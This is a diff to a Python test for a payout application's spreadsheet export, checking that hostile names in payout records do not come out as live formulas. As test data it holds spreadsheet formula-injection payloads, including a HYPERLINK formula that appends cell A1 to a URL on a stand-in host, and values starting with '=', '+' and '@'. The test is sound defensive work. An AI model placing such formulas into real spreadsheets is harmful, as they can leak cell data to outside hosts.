@@ -26,7 +26,8 @@ from payout_desk.exchange.settlement_xlsx import (
 from payout_desk.exchange.xlsx_cells import CELL_LIMIT, cell, cell_text, cell_value
 from payout_desk.services.office.desk import OfficeDesk
 from payout_desk.services.point.desk import PointDesk
-from payout_desk.services.point.pay import PayoutRequest, Proxy
+from payout_desk.services.point.pay import Proxy
+from tests.paykit import signed
 from tests.roundkit import CSV_HEADER, MONTH, add_clerks, passphrase
 
 HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm để xem")'
@@ -150,8 +151,8 @@ def test_the_office_settlement_of_a_round_with_hostile_texts_has_no_formula(tmp_
     issued = office.lists.issue(MONTH, tmp_path / "lists")
     laptop.lists.load(issued[0].path, trust_office=office.require_identity().fingerprint)
     add_clerks(laptop)
-    laptop.pay.record(PayoutRequest("NCC001", standing_proxy=True, proxy=Proxy("", "086040173112")))
-    laptop.pay.record(PayoutRequest("NCC002", proxy=Proxy('=HYPERLINK("http://x")', "0860", "+con", "@1")))
+    laptop.pay.record(signed("NCC001", standing_proxy=True, proxy=Proxy("", "086040173112", id_checked=True)))
+    laptop.pay.record(signed("NCC002", proxy=Proxy('=HYPERLINK("http://x")', "086040173112", "+con", "@1")))
     office.imports.files([laptop.sync.export(tmp_path / "may1.pdsync").path])
 
     out = tmp_path / "thanh-quyet-toan.xlsx"
